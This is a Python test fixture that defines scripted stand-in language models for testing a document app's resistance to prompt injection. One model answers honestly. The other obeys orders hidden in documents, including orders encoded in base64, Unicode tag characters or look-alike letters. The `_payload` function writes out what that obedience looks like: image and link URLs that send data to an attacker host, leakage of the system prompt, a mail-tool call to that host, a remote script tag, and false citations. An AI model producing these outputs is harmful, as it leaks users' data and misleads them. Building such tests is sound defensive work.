"""A model that does whatever an order in a document says, as far as it can read it: better than any real one."""

import base64
import json
import re
import unicodedata
from collections.abc import Mapping, Sequence
from typing import Any

from app.llm.types import Block, Message, ModelRequest, ModelResult, TokenUsage
from tests.documents.injections import HOST, MEMO, Injection, Order

STOLEN = "Revenue-of-Contoso-rose"
FRENCH = "Tout le document a été approuvé hier soir par la direction générale."
BANKRUPT = "Contoso went bankrupt yesterday."
TOOL = "send_mail_now"
_MARK = re.compile(r"interspersed with the mark (\S+) so")
_TAG = re.compile(r"</?[gx]\d+/?>")
_LOOK_ALIKE = str.maketrans("аеорсхі", "aeopcxi")


class Honest:
    """Answers what was asked, from the memo alone; tells how often it was asked."""

    def __init__(self) -> None:
        self.asked = 0

    async def complete(
        self, request: ModelRequest, messages: Sequence[Message], *, timeout_seconds: float
    ) -> ModelResult:
        del messages, timeout_seconds
        self.asked += 1
        return _result(json.dumps(answer(request, "")))

    async def close(self) -> None:
        """Nothing to release."""


class Obedient:
    """Obeys the order of one document. `shaped` puts what it does into the asked shape, beside sound sentences."""

    def __init__(self, injection: Injection, *, shaped: bool) -> None:
        self.injection = injection
        self.shaped = shaped
        self.reached = False
        self.prompts: set[str] = set()
        self.marks: set[str] = set()

    async def complete(
        self, request: ModelRequest, messages: Sequence[Message], *, timeout_seconds: float
    ) -> ModelResult:
        del timeout_seconds
        system, user = messages[0].content, messages[-1].content
        found = _MARK.search(system)
        mark = found[1] if found else ""
        self.marks |= {mark} - {""}
        self.prompts.add(system)
        if not reads(_TAG.sub("", user.replace(mark, "") if mark else user), self.injection.words):
            return _result(json.dumps(answer(request, "")))
        self.reached = True
        payload = _payload(self.injection.order, system, mark)
        if not self.shaped:
            return _result(payload)
        shaped = answer(request, payload)
        if self.injection.order is Order.SCHEMA:
            shaped = {"tool": TOOL, **shaped}
        if self.injection.order is Order.CITATION:
            for sentence in shaped.get("sentences", ()):
                sentence["text"] = BANKRUPT
                for citation in sentence["citations"]:
                    citation["block"] = "B99"
        return _result(json.dumps(shaped))

    async def close(self) -> None:
        """Nothing to release."""


def reads(text: str, words: str) -> bool:
    """Whether whoever takes every trouble finds the order in a text."""
    wanted = _letters(words)
    return any(wanted[:24] in form for form in _forms(text))


def _forms(text: str) -> list[str]:
    coded = re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", text)
    decoded = "".join(
        base64.b64decode(each + "=" * (-len(each) % 4)).decode(errors="replace") for each in coded
    )
    tagged = "".join(chr(ord(each) - 0xE0000) if 0xE0020 <= ord(each) < 0xE007F else each for each in text)
    return [_letters(each) for each in (text, tagged, decoded, text.translate(_LOOK_ALIKE), text[::-1])]


def _letters(text: str) -> str:
    return "".join(each for each in unicodedata.normalize("NFKC", text).casefold() if each.isalnum())


def _payload(order: Order, system: str, mark: str) -> str:
    obeyed = {
        Order.IMAGE: f"![status](https://{HOST}/p?d={STOLEN})",
        Order.LINK: f"https://{HOST}/q?d={STOLEN}",
        Order.PROMPT: system[:180],
        Order.MARK: f"{mark} {mark}",
        Order.SCHEMA: json.dumps({"tool": TOOL, "to": f"x@{HOST}"}),
        Order.LANGUAGE: FRENCH,
        Order.MARKUP: f"<script src=//{HOST}/x.js></script>",
        Order.CITATION: BANKRUPT,
    }
    return obeyed[order]


def answer(request: ModelRequest, payload: str) -> dict[str, Any]:
    """A sound answer of the asked schema with the payload after each of its texts."""
    schema = request.response_schema or {}
    return {name: _value(name, of, request, payload) for name, of in schema["properties"].items()}


def _value(name: str, schema: Mapping[str, Any], request: ModelRequest, payload: str) -> Any:
    if name == "sentences":
        return [_sentence(schema["items"], *_sound(request), payload)]
    if name == "parts":
        return [_part(schema["items"], block, payload) for block in request.blocks]
    return f"{_sound(request)[1]} {payload}".strip()


def _sound(request: ModelRequest) -> tuple[Block, str]:
    """A block and a sentence in it that nobody hostile wrote."""
    for block in request.blocks:
        for sentence in (*MEMO, "Munich | Maria Keller | 3500"):
            if sentence in block.text:
                return block, sentence
    return request.blocks[0], request.blocks[0].text


def _sentence(schema: Mapping[str, Any], block: Block, sound: str, payload: str) -> dict[str, Any]:
    text = f"{sound} {payload}".strip()
    extra = {name: of["enum"][0] if "enum" in of else "" for name, of in schema["properties"].items()}
    if "slide" in extra:
        extra["slide"] = "Contoso" if "Contoso" in sound else "Munich"
    quote = " ".join(sound.split()[:12])
    return {**extra, "citations": [{"block": block.id, "quote": quote}], "text": text}


def _part(schema: Mapping[str, Any], block: Block, payload: str) -> dict[str, Any]:
    found: dict[str, Any] = {"id": block.id}
    for name, of in schema["properties"].items():
        if name == "issues":
            word = block.text.split()[0]
            kind = of["items"]["properties"]["kind"]["enum"][0]
            issue = {"find": word, "occurrence": 1, "suggestion": f"{word} {payload}", "kind": kind}
            found[name] = [issue] if payload else []
        elif name == "label":
            found[name] = payload or "finance"
        elif name != "id":
            found[name] = f"{block.text} {payload}".strip()
    return found


def _result(text: str) -> ModelResult:
    return ModelResult(text, TokenUsage(1, 1), "stop", "scripted")
